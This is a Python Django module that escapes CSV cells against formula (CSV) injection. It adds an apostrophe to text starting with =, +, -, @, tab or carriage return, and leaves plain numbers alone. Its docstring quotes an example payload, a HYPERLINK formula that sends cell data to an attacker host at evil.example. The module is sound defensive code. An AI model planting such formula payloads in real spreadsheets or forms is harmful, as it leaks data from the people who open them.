"""The one way the product writes CSV: every cell a spreadsheet could run as a formula is
neutralised (OWASP "CSV injection").

Spreadsheets treat a cell starting with `=`, `+`, `-` or `@` as a formula, and strip a
leading tab or carriage return before looking, so a council name such as
`=HYPERLINK("http://evil.example/?leak="&A2,"Open")` typed into a public form would run in
the central body's spreadsheet. Such text cells get a leading apostrophe, which every
spreadsheet shows as text and hides. Numbers stay numbers, also when written as text
("-3" is not a formula).

Use `csv_response(...)` for a download, or `csv_writer(stream)` for anything else. A test
(tests/security/test_csv.py) fails if any other module calls `csv.writer` directly.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any, Protocol

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# "-3", "+2.5", "-12%": a number written as text is only ever that number in a spreadsheet.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?%?")


def csv_cell(value: Any) -> Any:
    """A cell as it is safe to write: text starting like a formula gets a leading `'`."""
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...
    def writerows(self, rows: Iterable[Iterable[Any]], /) -> None: ...


class SafeCsvWriter:
    """`csv.writer` with every cell passed through `csv_cell`."""

    def __init__(self, stream: Any) -> None:
        self._writer: _Writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any) -> SafeCsvWriter:
    return SafeCsvWriter(stream)


def csv_response(*, filename: str, rows: Iterable[Iterable[Any]]) -> HttpResponse:
    """A CSV download named `filename` (without the extension)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    csv_writer(response).writerows(rows)
    return response
